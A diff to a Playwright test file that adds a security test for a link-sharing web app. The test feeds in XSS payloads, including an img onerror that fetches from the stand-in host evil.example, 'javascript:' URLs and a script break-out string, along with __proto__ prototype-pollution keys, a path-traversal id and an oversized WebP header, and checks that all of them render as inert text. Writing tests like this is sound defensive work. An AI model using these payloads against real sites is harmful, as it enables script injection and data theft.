@@ -3,6 +3,8 @@ import { readFileSync } from 'node:fs';
 import AxeBuilder from '@axe-core/playwright';
 import type { Browser, BrowserContext, Page } from '@playwright/test';
 import { generate } from 'lean-qr';
+import { encodePage } from '../src/core/link/link';
+import type { Page as PrototypePage } from '../src/core/prototype/types';
 import { drop, holdWorkers, killWorkers, problemsOf, worldsOf } from './app';
 import { expect, idle, test, watchFaults } from './fixtures';
 import { openSample as openPack, openThing } from './items-page';
@@ -138,6 +140,7 @@ for (const base of ['chart', 'terrain'] as const)
   });
 
 test('a page in a link says the same, with pictures where there is room for them', async ({ page, browser, context }) => {
+  test.slow();
   const items = await openPack(context);
   for (const [kind, name] of [
     ['item', 'iron-plate'],
@@ -174,6 +177,7 @@ test('a page in a link says the same, with pictures where there is room for them
 });
 
 test('a file holds nobody’s name unless it is ticked, and opens elsewhere', async ({ page, browser }) => {
+  test.slow();
   await openSample(page, 'x=0&y=0&z=0&on=tags');
   const tiles = await tilesOf(page, [-96, -96, 96, 96]);
   const players = (await worldsOf(page))[0]!.players.map(({ name }) => name);
@@ -243,6 +247,28 @@ test('a link that is bent, cut or newer says so, and nothing of it is kept', asy
     expect(other.faults).toEqual([]);
     await other.context.close();
   }
+});
+
+test('a page that means harm is text, and a picture of a gigabyte is none', async ({ browser }) => {
+  const evil = '<img src=x onerror="fetch(`//evil.example`)">';
+  const ref = { kind: 'item' as const, name: `__proto__${evil}`, label: evil, picture: 0 };
+  const page: PrototypePage = {
+    ...{ ref, type: 'constructor', mod: 'javascript:alert(1)', description: `[img=item/${evil}]${evil}[gps=1,2]`, group: ref },
+    ...{ names: [{ language: '"><script>', label: evil }], facts: [{ key: '__proto__', value: { type: 'text', text: evil } }] },
+    ...{ recipes: [], machines: [], made: [], used: [], makes: [], technology: null, path: null, planets: [ref], missing: [evil] },
+    ...{ related: [{ key: 'constructor', refs: [ref] }], copy: { rich: evil, command: 'javascript:alert(1)' } },
+  };
+  // Says of itself that it is 16,384 px square.
+  const webp = Uint8Array.from('RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f\xff\xff\xff\x0f\0\0\0\0\0\0\0\0\0\0\0\0\0', (sign) =>
+    sign.charCodeAt(0),
+  );
+  const pack = { id: `../../${evil}`, name: evil, game: evil, places: 9, mods: [evil] };
+  const other = await fresh(browser, `./#/link/${encodePage({ pack, page }, { of: [ref], webp })}`);
+  await expect(other.page.getByRole('heading', { level: 1 })).toHaveText(evil);
+  expect(await other.page.locator('img[src="x"], script:not([src]), a[href^="javascript"]').count()).toBe(0);
+  expect(await other.page.locator('.pic[style*="blob:"]').count()).toBe(0);
+  expect(other.faults).toEqual([]);
+  await other.context.close();
 });
 
 test('the device’s own sheet, the clipboard and a code for a camera get the very link', async ({ page, context }) => {
